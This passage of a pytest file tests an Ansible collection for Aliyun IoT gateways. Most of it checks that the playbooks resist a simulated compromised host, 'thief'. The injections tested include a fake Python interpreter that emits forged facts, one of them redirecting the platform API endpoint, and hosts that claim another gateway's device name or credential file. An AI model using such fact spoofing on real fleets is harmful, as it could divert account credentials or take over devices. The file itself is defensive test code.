    """A host that failed before a pass does not have its result, so its facts could be taken for the result."""
    counts = {"ok": 2, "changed": 0, "failed": 0, "unreachable": 0, "left": 0}
    empty: JSON = {"gateways": {}, "right": {}, "left": {}, "asked": {}}
    looks = {**empty, "check_mode": False, "counts": counts, "hosts": ["thief", "gw-0001"], "ended": False}
    facts = {"ansible_facts": {"gateway_looks": looks, "gateway_fleet": looks}}
    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps(facts)}'")
    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)}, gw_0001={})
    silent = {"ansible_connection": "{{ 'ssh' if inventory_hostname == 'thief' else 'local' }}", "ansible_port": 9}
    task = {"ansible.builtin.raw": "true", "vars": {**silent, "ansible_host": "127.0.0.1"}}
    plays: list[JSON] = [{"hosts": "gateways", "tasks": [task]}, {"import_playbook": "fleetops.aliyun_iot.provision"}]
    said = ["-e", json.dumps({"gateway_serial": serial})]
    with start_playbook(plays, hosts, tmp_path, *said, env={**ENV, "ANSIBLE_SSH_RETRIES": "0"}) as started:
        run = started.wait()
    assert run.stats["thief"]["unreachable"] == 1, run
    assert run.result("gw-0001")["reason"] == "missing", run
    assert credential_file(tmp_path, "gw-0001").exists(), run


def test_facts_of_a_gateway_lead_no_request_of_the_account_elsewhere(platform: Emulator, tmp_path: Path) -> None:
    """Facts redirect no request, although a task that runs once uses the account of the first host, maybe a compromised one."""
    activated(platform, "gw-0001")
    facts = {"ansible_facts": {"platform_openapi_endpoint": "127.0.0.1:9"}}
    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps(facts)}'")
    hosts = fleet(
        platform, tmp_path, thief={"ansible_python_interpreter": str(python), "gateway_device_name": "gw-0002"}
    )
    known = {name: value for name, value in account(platform).items() if name != "platform_openapi_endpoint"}
    said = ["-e", json.dumps({**known, **EVERYONE, "target": "gateways"})]
    plays: list[JSON] = [{"hosts": "gateways"}, {"import_playbook": "fleetops.aliyun_iot.decommission"}]
    with start_playbook(plays, hosts, tmp_path, *said, env=ENV) as started:
        run = started.wait()
    assert run.rc == 2, run
    assert "platform_openapi_endpoint, which only the inventory may set" in " ".join(run.stdout.split()), run
    assert "no answer" not in run.stdout, run


# Hosts that are in no batch


def failing_first(host: str, *playbooks: str) -> JSON:
    """Return plays in which a task fails for this host before the playbooks begin."""
    task = {"ansible.builtin.fail": {"msg": "not today"}, "when": f"inventory_hostname == '{host}'"}
    first = {"hosts": "gateways", "gather_facts": False, "tasks": [task]}
    return [first, *({"ansible.builtin.import_playbook": f"fleetops.aliyun_iot.{name}"} for name in playbooks)]


@pytest.mark.parametrize("playbook", ["provision", "reprovision", "recover", "decommission"])
def test_a_device_of_a_host_that_failed_before_is_for_no_other(
    platform: Emulator, tmp_path: Path, playbook: str
) -> None:
    stored = in_service(platform, tmp_path, "gw-0007")
    before = secrets(platform, "gw-0007")
    hosts = fleet(
        platform,
        tmp_path,
        gw_0007={},
        gw_0008={"gateway_device_name": "gw-0007"}
        if playbook in ("recover", "decommission")
        else reporting(tmp_path, "gw-0008", "gw-0007"),
        gw_0010={},
    )
    extra = {**account(platform), **EVERYONE, "gateway_report": "all", "gateway_verify": "none", "target": "gateways"}
    plays = failing_first("gw-0007", playbook)
    with start_playbook(plays, hosts, tmp_path, "-e", json.dumps(extra), env=ENV) as started:
        run = started.wait()
    assert run.rc == 2, run
    assert "gw-0007" not in called(platform, "register") + called(platform, "ResetThing"), run
    told = [each["result"].get("sharing") for tasks in run.results.values() for each in tasks]
    assert {"gw-0007": "shared_name"} in told, "a command for it alone would not be refused"
    assert (secrets(platform, "gw-0007"), statuses(platform)["gw-0007"]) == (before, "OFFLINE")
    assert "2 hosts have the device gw-0007 of" in " ".join((run.stdout + run.stderr).split())
    assert not credential_file(tmp_path, "gw-0008").exists()
    assert credential_file(tmp_path, "gw-0007").read_text() == stored


def test_a_host_that_only_its_hardware_names_is_not_left_to_a_task(platform: Emulator, tmp_path: Path) -> None:
    """Its task would register whatever name the hardware reports, here the device of another host."""
    hosts = fleet(
        platform,
        tmp_path,
        gw_0001={"ansible_become_password": "of-its-own"},
        gw_0002=reporting(tmp_path, "gw-0002", "gw-0001"),
        gw_0003={},
    )
    (tmp_path / "typed").write_text("typed")
    run = provision(platform, hosts, tmp_path, "--become-password-file", "typed")
    assert run.rc == 2, run
    assert sorted(called(platform, "register")) == ["gw-0001", "gw-0003"]
    assert kinds(run) == {"gw-0002": "unproven_name"}
    for words in ("was typed in", "gateway_device_name"):
        assert words in said(run, "gw-0002")


@pytest.mark.parametrize(
    "broken",
    [
        {"ansible_become": True, "ansible_become_password": "{{ nope }}"},
        {"ansible_become": True, "ansible_become_method": "nosuch"},
        {"ansible_timeout": "{{ nope }}"},
        {"ansible_shell_type": "nosuch"},
    ],
    ids=str,
)
def test_a_file_of_a_host_without_a_connection_is_for_no_other(
    platform: Emulator, tmp_path: Path, broken: JSON
) -> None:
    stored = in_service(platform, tmp_path, "gw-0001")
    path = str(credential_file(tmp_path, "gw-0001"))
    hosts = fleet(platform, tmp_path, gw_0001=broken, gw_0002={"gateway_path": path}, gw_0003={})
    run = provision(platform, hosts, tmp_path)
    assert run.rc == 2, run
    assert called(platform, "register") == ["gw-0003"]
    assert kinds(run)["gw-0002"] == "shared_place"  # gw-0001's own task fails for lack of a connection
    assert Path(path).read_text() == stored
